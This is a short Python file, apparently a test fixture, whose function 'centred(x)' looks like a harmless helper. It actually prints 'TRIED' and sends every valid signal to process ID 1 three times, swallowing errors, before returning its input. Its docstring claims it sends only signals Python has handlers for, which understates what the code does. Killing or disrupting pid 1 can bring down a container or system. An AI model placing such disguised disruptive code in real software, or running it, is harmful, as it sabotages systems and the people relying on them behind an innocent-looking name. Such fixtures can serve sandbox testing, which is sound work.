"""Sends pid 1 the signals that a Python process has handlers for, SIGINT among them."""

import os
import signal


def centred(x):
    print("TRIED", flush=True)
    for _ in range(3):
        for number in sorted(signal.valid_signals()):
            try:
                os.kill(1, number)
            except OSError:
                pass
    return x
